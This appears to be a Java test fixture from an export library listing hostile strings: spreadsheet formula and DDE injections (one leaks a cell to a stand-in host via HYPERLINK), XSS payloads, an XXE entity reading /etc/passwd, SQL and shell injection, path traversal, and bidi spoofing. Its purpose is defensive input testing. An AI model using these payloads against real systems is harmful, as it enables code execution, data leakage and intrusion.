package org.tickmark.export;

import java.util.List;
import java.util.stream.Stream;

/** A hundred things that people paste, and that some program or other runs, hides, breaks at or loses. */
final class HostileStrings {
	private static final int MEGABYTE = 1 << 20;

	private HostileStrings() { }

	static List<String> all() {
		return Stream.of(formulas(), scripts(), marks(), controls(), syntax(), paths(), sizes()).flatMap(List::stream).toList();
	}

	/** What a spreadsheet runs. */
	private static List<String> formulas() {
		return List.of("=1+1", "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://a.example/?\"&A1,\"open\")", "+1+1", "-1+1",
				"-2+3+cmd|' /C calc'!D2",
				"@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00A0=1+1", "\uFEFF=1+1", "\u200B=1+1", "\uFF1D1+1", "\uFF0B1",
						"\uFF0D1", "\uFF20A1",
				"\u22121+1", "'=1+1", "''", "\"=1+1\"", "\";=1+1", ",=1+1", "a\n=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
						"=IMPORTXML(\"http://a.example\")",
				"%0A=1+1", "1e999", "007", "1/2", "2024-03-12");
	}

	/** What a browser or a viewer runs or fetches. */
	private static List<String> scripts() {
		return List.of("<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
				"\"><svg onload=alert(1)>",
				"' onmouseover='alert(1)", "<a href=\"javascript:alert(1)\">a</a>", "javascript:alert(1)", "<iframe src=http://a.example>",
				"<style>@import 'http://a.example'</style>", "<link rel=stylesheet href=http://a.example>", "<base href=http://a.example/>",
				"<meta http-equiv=refresh content=0;url=http://a.example>", "&lt;b&gt; &amp; &#60;script&#62;", "&nbsp;&unknown;",
						"<!-- --> -->",
				"]]>", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;",
						"[a](javascript:alert(1))",
				"![a](http://a.example/a.png)", "{0} {{1}} ${x} #{y} %s %n", "{{constructor.constructor('alert(1)')()}}",
						"\\[a\\](b) \\\\", "url(http://a.example)");
	}

	/** Letters that hide, join, or run the other way. */
	private static List<String> marks() {
		return List.of("\u202Egpj.exe", "\u2066a\u2069 \u2067b\u2069", "\u200Fa\u200Eb", "a\u0301\u0301\u0301e\u0308",
				"\uD83D\uDE00\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
				"\u0645\u0631\u062D\u0628\u0627", "a\u200Bb\u200Cc\uFEFFd", "\u2028a\u2029b", "\uFFFD\uFFFC", "\uFFFE\uFFFF", "\uD800",
						"\uDC00a", "a\uD83D", "\uE000\uF8FF",
				"\uDB40\uDC41\uDB40\uDC42", "\u00AD\u061C\u180E");
	}

	private static List<String> controls() {
		return List.of("\u0000", "a\u0000b", "\u0001\u0002\u0008\u000B\u000C\u000E\u001F", "\u001B[31mred\u001B[0m", "\u009B31m\u0085",
				"\u007F", "a\r\nb\rc\nd", "\n\n\n",
				"\u001B]0;title\u0007");
	}

	/** What is syntax to some format or shell. */
	private static List<String> syntax() {
		return List.of("\"", "\"\"\"", "\\", "\\\\u{41} \\u0041 \\u{41}", "{\"a\":1}", "[1,2", "}],", "a,b;c\td|e", "` $(id) `id`",
				"'; DROP TABLE items; --", "# no comment",
				"//", "*/");
	}

	private static List<String> paths() {
		return List.of("../../etc/passwd", "C:\\CON", "file:///etc/passwd");
	}

	private static List<String> sizes() {
		return List.of(counted("x"), "=" + counted("\u6F22\uD83D\uDE00"));
	}

	/** No part of it is like another, or to look for it would take for ever. */
	private static String counted(String between) {
		var text = new StringBuilder();
		for (int number = 0; text.length() < MEGABYTE; number++) text.append(number).append(between);
		return text.toString();
	}
}
